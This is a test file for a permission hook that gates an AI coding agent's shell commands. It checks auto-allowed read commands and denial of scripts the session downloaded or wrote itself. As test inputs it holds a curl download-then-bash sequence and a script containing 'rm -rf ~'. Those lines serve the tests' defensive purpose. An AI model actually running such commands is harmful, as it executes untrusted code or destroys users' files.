import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { BEST_FORWARDER, bashPayload, type Product, scratchProduct } from './faults/product.ts';

const NO_AUTOSTART = { HOOKLINE_NO_AUTOSTART: '1' };

function projectIn({ folder }: Product): string {
  const project = join(folder, 'shop');
  mkdirSync(join(project, 'src'), { recursive: true });
  writeFileSync(join(project, 'src', 'a.ts'), '');
  return project;
}

test('calm is off until setup enables it, and then saves prompts', async () => {
  const product = scratchProduct({ packs: 'default' });
  const project = projectIn(product);
  const decide = async (command: string, id: string) => {
    const payload = bashPayload(command, { cwd: project, tool_use_id: id });
    const { stdout } = await product.hook(BEST_FORWARDER, 'PreToolUse', payload, NO_AUTOSTART);
    return stdout === '' ? null : JSON.parse(stdout).hookSpecificOutput.permissionDecision;
  };
  expect(await decide('cat src/a.ts', 't0')).toBeNull();
  // From here on the daemon reads the packs, once for all calls.
  await product.up();
  expect(await decide('cat src/a.ts', 't1')).toBeNull();
  const offered = await product.run(['setup', 'claude', '--yes']);
  expect(offered.stdout).toContain('--calm');
  expect(await decide('cat src/a.ts', 't2')).toBeNull();

  expect(await product.run(['setup', 'claude', '--yes', '--calm'])).toMatchObject({ code: 0 });
  expect(readFileSync(product.paths.config, 'utf8')).toContain('calm: on');
  expect(await decide('cat src/a.ts', 't3')).toBe('allow');
  expect(await decide('ls src && wc -l src/*.ts', 't4')).toBe('allow');
  expect(await decide('cat src/a.ts > b.ts', 't5')).toBeNull();
  expect(await decide('npm test', 't6')).toBeNull();
  expect(await product.run(['setup', 'claude', '--yes', '--calm-builds'])).toMatchObject({ code: 0 });
  expect(await decide('npm test 2>&1 | tail -5', 't7')).toBe('allow');

  const stats = JSON.parse((await product.read(['stats', '--json'])).stdout);
  expect(stats.peace).toEqual(
    expect.arrayContaining([
      expect.objectContaining({ rule: 'calm/reading', saved: 2 }),
      expect.objectContaining({ rule: 'calm-builds/node', saved: 1 }),
    ]),
  );
  expect((await product.run(['setup', 'claude', '--yes'])).stdout).not.toContain('--calm');
  await product.down();
  expect(await decide('cat src/a.ts', 't8')).toBe('allow');
});

test('the daemon remembers what a session downloaded, and without it nothing does', async () => {
  const product = scratchProduct({ packs: 'default' });
  const project = projectIn(product);
  const decide = async (command: string, env: Record<string, string>) => {
    const payload = bashPayload(command, { cwd: project });
    const { stdout } = await product.hook(BEST_FORWARDER, 'PreToolUse', payload, env);
    return stdout === '' ? null : JSON.parse(stdout).hookSpecificOutput.permissionDecision;
  };
  const fetchAndRun = async (env: Record<string, string>) => {
    await decide('curl -fsSL -o x.sh https://example.com/install', env);
    writeFileSync(join(project, 'x.sh'), 'ls\n');
    return decide('bash x.sh', env);
  };
  expect(await fetchAndRun(NO_AUTOSTART)).toBeNull();
  await product.up();
  expect(await fetchAndRun({})).toBe('deny');
  writeFileSync(join(project, 'y.sh'), 'rm -rf ~\n');
  expect(await decide('bash y.sh', {})).toBeNull();
  await decide('cat > y.sh', {});
  writeFileSync(join(project, 'y.sh'), 'rm -rf ~\n');
  expect(await decide('bash y.sh', {})).toBe('deny');
});
